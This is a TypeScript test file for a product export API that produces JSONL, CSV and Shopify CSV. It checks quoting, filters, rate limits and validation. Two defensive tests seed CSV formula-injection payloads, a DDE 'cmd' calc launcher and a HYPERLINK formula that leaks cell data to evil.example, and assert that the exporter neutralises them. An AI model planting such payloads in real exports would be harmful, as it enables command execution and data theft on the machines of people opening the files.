import assert from 'node:assert/strict';
import { type ClientRequest, type IncomingMessage, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { databaseTargets } from '../helpers/databases.ts';
import { startHarness, type Harness } from '../helpers/harness.ts';
import { seedProduct } from '../helpers/seed-products.ts';

const EXPORT = '/api/v1/products/export';
const BOM = '\uFEFF';

const TRICKY_DESCRIPTION = 'Dice "ciao", poi va a capo.\nSeconda riga, con <b>tag</b> & virgole.\n\nNuovo paragrafo; 3 < 5.';
const images = (n: number) => Array.from({ length: n }, (_, i) => ({ url: `https://img.example/p-${i + 1}.jpg`, source: 'caller' }));

for (const target of databaseTargets()) {
  describe(`product export [${target.name}]`, () => {
    let h: Harness;
    before(async () => {
      h = await startHarness(target, { workers: false });
    });
    after(async () => {
      await h.close();
    });

    async function exported(token: string, query: string) {
      const res = await h.get(`${EXPORT}${query}`, token);
      assert.equal(res.statusCode, 200, res.body);
      return res;
    }
    /** Parses a CSV download strictly (RFC 4180), after checking its BOM and line ends. */
    function table(body: string): string[][] {
      assert.ok(body.startsWith(BOM), 'UTF-8 with a BOM');
      assert.ok(!/[^\r]\n/.test(body.replace(/"[^"]*"/g, '')), 'records end in CRLF');
      return parse(body, { bom: true, relax_column_count: false }) as string[][];
    }

    /** Two products sold in Italy (one tricky to quote), one only in Germany. */
    async function catalogue() {
      const account = await h.account();
      const db = h.container.db;
      const tricky = await seedProduct(db, account.id, {
        code: '8076809513753',
        sku: 'BAR,5',
        handle: 'spaghetti "n5"',
        brand: 'Barilla <Italia>',
        publicationState: 'online',
        countries: ['it', 'de'],
        content: {
          it: {
            title: 'Spaghetti "n.5", 500 g',
            short_description: 'Riga uno\r\nriga due',
            description: TRICKY_DESCRIPTION,
            key_features: ['Grano <duro>', 'Cottura 9 min'],
            title_tag: 'Spaghetti | Barilla',
            meta_description: 'Pasta, "buona"',
            meta_keywords: 'pasta, spaghetti',
            global_attr: { weight: '500 g', colour: 'giallo' },
            images: images(12),
          },
          de: { title: 'Nudeln' },
        },
        updatedAt: '2024-06-02T00:00:00Z',
      });
      const plain = await seedProduct(db, account.id, {
        code: 'B000000001',
        codeType: 'asin',
        sku: null,
        brand: null,
        countries: ['it'],
        content: { it: { title: 'Lampada Arco', description: 'Una lampada.', global_attr: { material: 'metallo' }, images: [] } },
        updatedAt: '2024-06-01T00:00:00Z',
      });
      const german = await seedProduct(db, account.id, { sku: 'DE-ONLY', countries: ['de'], content: { de: { title: 'Nur hier' } } });
      return { ...account, tricky, plain, german };
    }

    test('jsonl: one details-shaped product per line, for the country asked', async () => {
      const c = await catalogue();
      const res = await exported(c.token, '?country=it&format=jsonl');
      assert.match(String(res.headers['content-type']), /^application\/x-ndjson/);
      assert.match(String(res.headers['content-disposition']), /^attachment; filename="products-it-\d{4}-\d{2}-\d{2}\.jsonl"$/);
      const lines = res.body.split('\n');
      assert.equal(lines.pop(), '', 'every line ends in a newline');
      const products = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
      assert.deepEqual(
        products.map((p) => p.id),
        [c.tricky, c.plain],
      );
      for (const product of products) {
        const details = await h.get(`/api/v1/products/details/${String(product.id)}/it`, c.token);
        assert.equal(details.statusCode, 200, details.body);
        assert.deepEqual(product, details.json<{ product: unknown }>().product, 'the same object as the details endpoint');
        assert.equal(product.publication_state, product.id === c.tricky ? 'online' : 'pending_review');
      }
    });

    test('csv: one row per product, cell by cell, with an attr: column per attribute in the export', async () => {
      const c = await catalogue();
      const res = await exported(c.token, '?country=IT&format=csv');
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      assert.match(String(res.headers['content-disposition']), /filename="products-it-[\d-]+\.csv"/);
      const [header, ...rows] = table(res.body);
      const imageColumns = Array.from({ length: 10 }, (_, i) => `image_${i + 1}`);
      assert.deepEqual(header, [
        'id',
        'code',
        'sku',
        'product_handle',
        'brand',
        'state',
        'publication_state',
        'country',
        'language',
        'title',
        'short_description',
        'description',
        'key_features',
        'title_tag',
        'meta_description',
        'meta_keywords',
        'category',
        'google_category_id',
        'category_id',
        'tags',
        ...imageColumns,
        'attr:colour',
        'attr:material',
        'attr:weight',
      ]);
      assert.equal(rows.length, 2);
      assert.deepEqual(rows[0], [
        c.tricky,
        '8076809513753',
        'BAR,5',
        'spaghetti "n5"',
        'Barilla <Italia>',
        'completed',
        'online',
        'it',
        'it',
        'Spaghetti "n.5", 500 g',
        'Riga uno\r\nriga due',
        TRICKY_DESCRIPTION,
        'Grano <duro> | Cottura 9 min',
        'Spaghetti | Barilla',
        'Pasta, "buona"',
        'pasta, spaghetti',
        '',
        '',
        '',
        '',
        ...images(10).map((i) => i.url),
        'giallo',
        '',
        '500 g',
      ]);
      assert.deepEqual(rows[1], [
        c.plain,
        'B000000001',
        '',
        '',
        '',
        'completed',
        'pending_review',
        'it',
        'it',
        'Lampada Arco',
        '',
        'Una lampada.',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        ...imageColumns.map(() => ''),
        '',
        'metallo',
        '',
      ]);
    });

    test("shopify: Shopify's product CSV, cell by cell, extra images on rows of their own", async () => {
      const c = await catalogue();
      const res = await exported(c.token, '?country=it&format=shopify');
      assert.match(String(res.headers['content-disposition']), /filename="products-it-shopify-[\d-]+\.csv"/);
      const [header, ...rows] = table(res.body);
      assert.deepEqual(header, [
        'Handle',
        'Title',
        'Body (HTML)',
        'Vendor',
        'Tags',
        'Published',
        'Variant SKU',
        'Variant Barcode',
        'Image Src',
        'Image Position',
        'SEO Title',
        'SEO Description',
        'Product Category',
        'Google Shopping / Google Product Category',
      ]);
      assert.equal(rows.length, 12 + 1, 'twelve image rows for the first product, one row for the second');
      assert.deepEqual(rows[0], [
        'spaghetti "n5"',
        'Spaghetti "n.5", 500 g',
        '<p>Dice &quot;ciao&quot;, poi va a capo.<br>Seconda riga, con &lt;b&gt;tag&lt;/b&gt; &amp; virgole.</p>\n<p>Nuovo paragrafo; 3 &lt; 5.</p>\n<ul><li>Grano &lt;duro&gt;</li><li>Cottura 9 min</li></ul>',
        'Barilla <Italia>',
        'pasta, spaghetti',
        'TRUE',
        'BAR,5',
        '8076809513753',
        'https://img.example/p-1.jpg',
        '1',
        'Spaghetti | Barilla',
        'Pasta, "buona"',
        '',
        '',
      ]);
      for (let i = 2; i <= 12; i++) {
        assert.deepEqual(rows[i - 1], ['spaghetti "n5"', '', '', '', '', '', '', '', `https://img.example/p-${i}.jpg`, String(i), '', '', '', '']);
      }
      assert.deepEqual(
        rows[12],
        ['lampada-arco-b000000001', 'Lampada Arco', '<p>Una lampada.</p>', '', '', 'FALSE', '', '', '', '', '', '', '', ''],
        'an ASIN is no barcode; the handle is made from the title',
      );
    });

    test('csv and shopify: a field whose only special character is a line break is quoted, so the row goes on past it', async () => {
      const { id: accountId, token } = await h.account();
      // Unquoted, the second line would start a row of its own, a formula in its first cell.
      const description = "Prima riga\n=cmd|' /C calc'!A0";
      await seedProduct(h.container.db, accountId, { sku: 'LF-1', content: { it: { title: 'Righe', description } } });
      const [csvHeader, ...csvRows] = table((await exported(token, '?country=it&format=csv')).body);
      assert.equal(csvRows.length, 1);
      assert.equal(csvRows[0]?.[csvHeader?.indexOf('description') ?? -1], description);
      const [, ...shopifyRows] = table((await exported(token, '?country=it&format=shopify')).body);
      assert.equal(shopifyRows.length, 1);
      assert.equal(shopifyRows[0]?.[2], '<p>Prima riga<br>=cmd|&apos; /C calc&apos;!A0</p>');
    });

    test('csv and shopify: a cell that would start a formula gets a leading quote; ordinary text and signed numbers stay as written', async () => {
      const { id: accountId, token } = await h.account();
      const hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"Details")';
      const dde = "=cmd|' /C calc'!A0";
      // The brand as a third-party fact source could hand it over; the rest as a manual edit sends it.
      const id = await seedProduct(h.container.db, accountId, { sku: 'F-1', brand: dde, countries: ['it'], content: { it: { title: 'Vecchio titolo' } } });
      const edit = await h.post('/api/v1/products/update', token, {
        code: id,
        country: 'it',
        title: hyperlink,
        short_description: 'Una pasta corta, con un = a metà',
        description: "@SUM(1+1)*cmd|' /C calc'!A0",
        key_features: ['+1 porzione omaggio', 'Trafilata al bronzo'],
        title_tag: "-2+3+cmd|' /C calc'!A0",
        meta_description: 'Descrizione normale',
        global_attr: { colour: '＝1+1', temperature: '-5', tolerance: '+3,5', storage: '-18 °C' },
      });
      assert.equal(edit.statusCode, 200, edit.body);

      const [header, ...rows] = table((await exported(token, '?country=it&format=csv')).body);
      assert.equal(rows.length, 1);
      const cell = (name: string) => rows[0]?.[header?.indexOf(name) ?? -1];
      assert.equal(cell('title'), `'${hyperlink}`);
      assert.equal(cell('short_description'), 'Una pasta corta, con un = a metà');
      assert.equal(cell('description'), "'@SUM(1+1)*cmd|' /C calc'!A0");
      assert.equal(cell('key_features'), "'+1 porzione omaggio | Trafilata al bronzo");
      assert.equal(cell('title_tag'), "'-2+3+cmd|' /C calc'!A0");
      assert.equal(cell('meta_description'), 'Descrizione normale');
      assert.equal(cell('attr:colour'), "'＝1+1", 'a full-width = is a formula to Apple Numbers');
      assert.equal(cell('attr:temperature'), '-5', 'a signed number is no formula');
      assert.equal(cell('attr:tolerance'), '+3,5');
      assert.equal(cell('attr:storage'), "'-18 °C", 'a number with a unit is text that starts with -');
      assert.equal(cell('sku'), 'F-1');
      assert.equal(cell('brand'), `'${dde}`);

      const [shopifyHeader, ...shopifyRows] = table((await exported(token, '?country=it&format=shopify')).body);
      assert.equal(shopifyRows.length, 1);
      const shopify = (name: string) => shopifyRows[0]?.[shopifyHeader?.indexOf(name) ?? -1];
      assert.equal(shopify('Title'), `'${hyperlink}`);
      assert.equal(shopify('Vendor'), `'${dde}`);
      assert.equal(shopify('SEO Title'), "'-2+3+cmd|' /C calc'!A0");
      assert.equal(shopify('SEO Description'), 'Descrizione normale');
      assert.equal(
        shopify('Body (HTML)'),
        '<p>@SUM(1+1)*cmd|&apos; /C calc&apos;!A0</p>\n<ul><li>+1 porzione omaggio</li><li>Trafilata al bronzo</li></ul>',
        'the body starts with a tag, so it needs no quote',
      );
      assert.equal(shopify('Variant SKU'), 'F-1');
    });

    test('an empty selection is the header alone (jsonl: nothing)', async () => {
      const { token } = await h.account();
      assert.equal((await exported(token, '?country=it&format=jsonl')).body, '');
      const csv = table((await exported(token, '?country=it&format=csv')).body);
      assert.equal(csv.length, 1);
      assert.equal(csv[0]?.[0], 'id');
      const shopify = table((await exported(token, '?country=it&format=shopify')).body);
      assert.equal(shopify.length, 1, 'the header alone');
      assert.equal(shopify[0]?.[0], 'Handle');
    });

    test("the list's filters apply; another account's and deleted products never appear", async () => {
      const c = await catalogue();
      const other = await h.account();
      await seedProduct(h.container.db, other.id, { code: '8076809513753', sku: 'BAR,5', content: { it: { title: 'Altrui' } } });
      await h.container.db.query('UPDATE products SET deleted_at = now() WHERE id = $1', [c.plain]);
      const ids = async (token: string, query: string) =>
        (await exported(token, `?country=it${query}`)).body
          .split('\n')
          .filter((l) => l !== '')
          .map((l) => (JSON.parse(l) as { id: string }).id);
      assert.deepEqual(await ids(c.token, ''), [c.tricky]);
      assert.deepEqual(await ids(c.token, '&search=lampada'), []);
      assert.deepEqual(await ids(c.token, '&publication_state=online&brand=barilla%20%3Citalia%3E'), [c.tricky]);
      assert.deepEqual(await ids(c.token, '&state=failed'), []);
      assert.equal((await ids(other.token, '')).length, 1);
      const csv = table((await exported(c.token, '?country=it&format=csv')).body);
      assert.deepEqual(
        csv.slice(1).map((r) => r[0]),
        [c.tricky],
      );
      assert.ok(!csv[0]?.includes('attr:material'), "a deleted product's attributes make no column");
    });

    test('exports more products than one batch reads, each once, in list order', async () => {
      const { id: accountId, token } = await h.account();
      await h.container.db.query(
        `INSERT INTO products (account_id, sku, countries, agent_model, state, updated_at)
         SELECT $1, 'B-' || g, ARRAY['it'], 'v2', 'completed', timestamptz '2024-01-01' + g * interval '1 second' FROM generate_series(1, 1203) g`,
        [accountId],
      );
      const lines = (await exported(token, '?country=it')).body.split('\n').filter((l) => l !== '');
      const skus = lines.map((l) => (JSON.parse(l) as { sku: string }).sku);
      assert.equal(skus.length, 1203);
      assert.equal(new Set(skus).size, 1203);
      assert.equal(skus[0], 'B-1203');
      assert.equal(skus.at(-1), 'B-1');
    });

    /** 200 records of 100 KB: 20 MB an export, more than loopback's socket buffers hold, so a client that reads nothing keeps its export running. */
    async function bigCatalogue(harness: Harness, accountId: string): Promise<void> {
      await harness.container.db.query(
        `WITH made AS (
           INSERT INTO products (account_id, sku, countries, agent_model, state)
           SELECT $1, 'BIG-' || g, ARRAY['it'], 'v2', 'completed' FROM generate_series(1, 200) g RETURNING id)
         INSERT INTO product_content (product_id, country, language, title, description, generation_id)
         SELECT id, 'it', 'it', 'Grande', repeat('x', 100000), gen_random_uuid() FROM made`,
        [accountId],
      );
    }

    /** An export answered 200 whose client reads nothing: it stays running until the request is destroyed. */
    async function heldExport(harness: Harness, token: string): Promise<ClientRequest> {
      if (harness.app.server.address() === null) await harness.app.listen({ host: '127.0.0.1', port: 0 });
      const port = (harness.app.server.address() as AddressInfo).port;
      const request = httpRequest({ host: '127.0.0.1', port, path: `${EXPORT}?country=it`, headers: { authorization: `Bearer ${token}` } });
      const answered = new Promise<IncomingMessage>((resolve, reject) => {
        request.once('response', resolve);
        request.once('error', reject);
      });
      request.end();
      const response = await answered;
      assert.equal(response.statusCode, 200);
      response.pause();
      request.once('error', () => {});
      return request;
    }

    /** Asks again, as soon as it may, until the answer is not 429 (a hung-up download's slot comes back once the server has seen it). */
    async function exportOnceFree(harness: Harness, query: string, token: string) {
      let res = await harness.get(`${EXPORT}${query}`, token);
      for (let i = 0; res.statusCode === 429 && i < 500; i += 1) {
        await new Promise((resolve) => setImmediate(resolve));
        res = await harness.get(`${EXPORT}${query}`, token);
      }
      return res;
    }

    test('an account runs at most 2 exports at once: a third is 429 with Retry-After; a slot comes back when a download ends or is cut off', async () => {
      const { id: accountId, token } = await h.account();
      const other = await h.account();
      await bigCatalogue(h, accountId);
      const held = [await heldExport(h, token), await heldExport(h, token)];
      const third = await h.get(`${EXPORT}?country=it&format=csv`, token);
      assert.equal(third.statusCode, 429, third.body);
      assert.equal(third.headers['retry-after'], '10');
      assert.equal(third.json<{ code: string }>().code, 'rate_limited');
      assert.match(third.json<{ message: string }>().message, /already has 2 exports running/);
      const theirs = await h.get(`${EXPORT}?country=it`, other.token);
      assert.equal(theirs.statusCode, 200, "another account's export is not held back");

      // The client hangs up one download: its slot is given back.
      held[0]?.destroy();
      const again = await exportOnceFree(h, '?country=de', token);
      assert.equal(again.statusCode, 200, again.body);
      held[1]?.destroy();
    });

    test('the server runs at most EXPORTS_PER_INSTANCE exports at once, all accounts together: one more is 429 with Retry-After, whoever asks', async () => {
      const small = await startHarness(target, { workers: false, env: { EXPORTS_PER_INSTANCE: '2' } });
      try {
        const a = await small.account();
        const b = await small.account();
        const c = await small.account();
        await bigCatalogue(small, a.id);
        await bigCatalogue(small, b.id);
        const held = [await heldExport(small, a.token), await heldExport(small, b.token)];
        const refused = await small.get(`${EXPORT}?country=it`, c.token);
        assert.equal(refused.statusCode, 429, refused.body);
        assert.equal(refused.headers['retry-after'], '10');
        const body = refused.json<{ code: string; message: string; retry_after_seconds: number }>();
        assert.equal(body.code, 'rate_limited');
        assert.match(body.message, /This server already has 2 exports running.*EXPORTS_PER_INSTANCE/);
        assert.equal(body.retry_after_seconds, 10);
        // Refused by the server's cap, the account's own slot is not kept: once one download ends, it may export.
        held[0]?.destroy();
        const again = await exportOnceFree(small, '?country=it&format=csv', c.token);
        assert.equal(again.statusCode, 200, again.body);
        held[1]?.destroy();
      } finally {
        await small.close();
      }
    });

    test('bad parameters are validation_failed on the parameter', async () => {
      const { token } = await h.account();
      for (const [query, field] of [
        ['?format=csv', 'country'],
        ['?country=zz', 'country'],
        ['?country=it&format=xml', 'format'],
        ['?country=it&page=2', 'page'],
        ['?country=it&updated_from=soon', 'updated_from'],
      ] as const) {
        const res = await h.get(`${EXPORT}${query}`, token);
        assert.equal(res.statusCode, 422, `${query}: ${res.body}`);
        assert.deepEqual(Object.keys(res.json<{ errors: object }>().errors), [field], query);
      }
    });
  });
}
